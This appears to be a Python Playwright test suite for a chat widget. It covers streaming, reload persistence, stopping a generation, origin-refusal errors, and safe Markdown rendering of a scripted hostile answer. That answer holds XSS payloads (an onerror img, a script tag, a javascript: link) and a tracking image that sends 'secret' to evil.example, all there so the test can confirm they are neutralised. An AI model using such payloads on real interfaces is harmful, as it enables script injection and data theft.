"""widget.js in headless Chromium through Playwright: the demo page on the real default model
(send, watch it stream, reload and find the history, stop a generation), and the widget's
Markdown rendering against hostile answers (a scripted WebSocket server, so the text is exact)."""

from __future__ import annotations

import asyncio
import json
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from playwright.sync_api import Page, expect

from dialog.store import Site, Store

pytestmark = pytest.mark.browser


def add_site(dialog_dir, site: Site) -> None:  # type: ignore[no-untyped-def]
    """Through the real store, on its own thread (Playwright's sync API holds this thread's event loop)."""
    async def put() -> None:
        store = await Store.open(dialog_dir / "chat.db")
        await store.put_site(site)
        await store.close()

    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, put()).result()


def open_chat(page: Page, url: str) -> None:
    page.goto(f"{url}/widget/demo")
    page.locator("#tandem-chat .launcher").click()
    expect(page.locator("#tandem-chat .panel")).to_be_visible()


@pytest.mark.default_model
def test_demo_page_send_stream_reload_stop(default_server, browser, tmp_path) -> None:
    page = browser.new_page()
    try:
        open_chat(page, default_server.url)
        page.locator("#tandem-chat textarea").fill("What is the capital of France?")
        page.locator("#tandem-chat textarea").press("Enter")
        expect(page.locator("#tandem-chat .msg.user")).to_have_text("What is the capital of France?")
        answer = page.locator("#tandem-chat .msg.assistant[data-finish]")
        expect(answer).to_have_count(1, timeout=120_000)  # done
        expect(page.locator("#tandem-chat .send")).to_be_visible()
        final = answer.inner_text()
        assert "Paris" in final

        page.reload()  # the conversation survives a reload
        page.locator("#tandem-chat .launcher").click()
        expect(page.locator("#tandem-chat .msg")).to_have_count(2)
        expect(page.locator("#tandem-chat .msg.user")).to_have_text("What is the capital of France?")
        expect(page.locator("#tandem-chat .msg.assistant")).to_have_text(final)

        page.locator("#tandem-chat textarea").fill("Write a very long story about a lighthouse keeper and his cat.")
        page.locator("#tandem-chat textarea").press("Enter")
        story = page.locator("#tandem-chat .msg.assistant").nth(1)
        expect(story).not_to_be_empty(timeout=60_000)
        first_seen = story.inner_text()
        deadline = time.monotonic() + 60
        while len(story.inner_text()) <= len(first_seen):  # it streams in, piece by piece
            assert time.monotonic() < deadline
            time.sleep(0.05)
        expect(page.locator("#tandem-chat .stop")).to_be_visible()
        page.locator("#tandem-chat .stop").click()
        expect(page.locator("#tandem-chat .msg.assistant").last.locator(".note")).to_have_text("(stopped)", timeout=30_000)
        expect(page.locator("#tandem-chat .send")).to_be_visible()
        page.screenshot(path=str(tmp_path / "widget.png"))
    finally:
        page.close()


HOSTILE = (
    "Here is **bold**, `code` and a [safe link](https://docs.example.com/help).\n\n"
    "<img src=x onerror=\"window.pwned=1\"> <script>window.pwned=2</script>\n\n"
    "![tracker](https://evil.example/p.png?d=secret) and [bad](javascript:window.pwned=3)\n\n"
    "- one\n- two\n\n```python\nprint('<b>hi</b>')\n```"
)


def test_answers_render_as_safe_markdown(tiny_server, browser) -> None:
    with tiny_server() as s:
        page = browser.new_page()
        try:
            def server(ws):  # type: ignore[no-untyped-def]
                def on_message(message):  # type: ignore[no-untyped-def]
                    frame = json.loads(message)
                    if frame["type"] == "hello":
                        ws.send(json.dumps({"type": "welcome", "conversation_id": "c", "token": "t", "history": [], "seq": 0, "reset": True}))
                    elif frame["type"] == "message":
                        ws.send(json.dumps({"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}))
                        for i, piece in enumerate([HOSTILE[:40], HOSTILE[40:]]):
                            ws.send(json.dumps({"type": "delta", "message_id": "a1", "seq": 2 + i, "text": piece}))
                        ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 4, "finish_reason": "stop"}))
                ws.on_message(on_message)

            page.route_web_socket("**/v1/dialog*", server)
            open_chat(page, s.url)
            page.locator("#tandem-chat textarea").fill("hi")
            page.locator("#tandem-chat textarea").press("Enter")
            answer = page.locator("#tandem-chat .msg.assistant")
            expect(answer).to_contain_text("print('<b>hi</b>')")
            assert answer.locator("strong").inner_text() == "bold" and answer.locator("code").first.inner_text() == "code"
            link = answer.locator("a")
            expect(link).to_have_count(1)  # the javascript: link is plain text
            assert link.get_attribute("href") == "https://docs.example.com/help"
            assert link.get_attribute("rel") == "noopener noreferrer"
            assert answer.locator("img, script, b").count() == 0  # raw HTML is text, the remote image is not loaded
            assert "<img src=x" in answer.inner_text() and "tracker" in answer.inner_text()
            assert answer.locator("li").count() == 2 and answer.locator("pre code").count() == 1
            assert page.evaluate("window.pwned") is None
        finally:
            page.close()


def test_errors_are_shown_in_plain_words(tiny_server, browser) -> None:
    """A site that allows only https://shop.example, previewed from this server's own origin: the
    server refuses at the handshake and the widget says so, instead of spinning."""
    with tiny_server() as s:
        add_site(s.dialog_dir, Site("strict", "Strict", ("https://shop.example",), "Be brief."))
        page = browser.new_page()
        try:
            page.goto(f"{s.url}/widget/demo?site_key=strict")
            page.locator("#tandem-chat .launcher").click()
            expect(page.locator("#tandem-chat .status")).to_have_text("The chat is not available on this website.")
        finally:
            page.close()
